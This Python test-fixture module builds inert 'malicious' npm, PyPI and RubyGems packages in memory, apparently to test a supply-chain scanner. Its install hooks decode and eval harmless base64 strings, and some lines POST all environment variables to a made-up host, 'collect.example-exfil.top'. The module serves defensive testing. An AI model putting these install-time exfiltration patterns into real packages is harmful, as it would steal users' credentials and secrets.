"""Inert "malicious" packages built in memory for tests: code that *would* decode and exec a
harmless string, read the environment and post it to a made-up host, or touch a marker file
on install. Nothing here is ever run; the tests check that nothing of it runs."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import zipfile

import pyzipper

PAYLOAD_URL = "https://collect.example-exfil.top/upload"


def tar_gz(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, data in files.items():
            info = tarfile.TarInfo(path)
            info.size, info.mtime = len(data), 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def npm_package(name: str, version: str, marker: str = "/tmp/never") -> bytes:
    manifest = {
        "name": name,
        "version": version,
        "description": "inert test package",
        "scripts": {"postinstall": "node install.js"},
        "dependencies": {"left-pad": "^1.3.0"},
    }
    install_js = (
        "const fs = require('fs');\n"
        f"fs.writeFileSync({json.dumps(marker)}, 'ran');\n"
        "const payload = Buffer.from('Y29uc29sZS5sb2coJ2hpJyk=', 'base64').toString();\n"
        "eval(payload);\n"
        "const https = require('https');\n"
        f"https.request('{PAYLOAD_URL}', {{method: 'POST'}}).end(JSON.stringify(process.env));\n"
    )
    return tar_gz(
        {
            "package/package.json": json.dumps(manifest, indent=2).encode(),
            "package/install.js": install_js.encode(),
            "package/index.js": b"module.exports = function () { return 42; };\n",
        }
    )


def sdist(name: str, version: str, marker: str = "/tmp/never") -> bytes:
    setup_py = (
        "import base64, os\n"
        "from setuptools import setup\n"
        f"open({marker!r}, 'w').write('ran')\n"
        "exec(base64.b64decode('cHJpbnQoImhpIik='))\n"
        f"setup(name={name!r}, version={version!r}, install_requires=['requests>=2'])\n"
    )
    module = (
        f"import os\nimport requests\n\nrequests.post('{PAYLOAD_URL}', data=dict(os.environ))\n"
    )
    root = f"{name}-{version}"
    return tar_gz(
        {
            f"{root}/setup.py": setup_py.encode(),
            f"{root}/{name}/__init__.py": module.encode(),
            f"{root}/PKG-INFO": f"Name: {name}\nVersion: {version}\n".encode(),
        }
    )


def gem(name: str, version: str, dependencies: str = "") -> bytes:
    """`dependencies`: the YAML of the gemspec's `dependencies:` list, as `gem build` writes."""
    data = tar_gz({f"lib/{name}.rb": b"require 'base64'\neval(Base64.decode64('cHV0cyAnaGkn'))\n"})
    metadata = gzip.compress(
        f"--- !ruby/object:Gem::Specification\nname: {name}\nversion: !ruby/object:Gem::Version\n"
        f"  version: {version}\n{dependencies}".encode()
    )
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as outer:
        for path, blob in (("metadata.gz", metadata), ("data.tar.gz", data)):
            info = tarfile.TarInfo(path)
            info.size = len(blob)
            outer.addfile(info, io.BytesIO(blob))
    return buffer.getvalue()


def sample_zip(files: dict[str, bytes], password: bytes = b"infected") -> bytes:
    """As DataDog's dataset ships samples: a zip encrypted with the password `infected`."""
    buffer = io.BytesIO()
    with pyzipper.AESZipFile(
        buffer, "w", compression=zipfile.ZIP_DEFLATED, encryption=pyzipper.WZ_AES
    ) as archive:
        archive.setpassword(password)
        for path, data in files.items():
            archive.writestr(path, data)
    return buffer.getvalue()
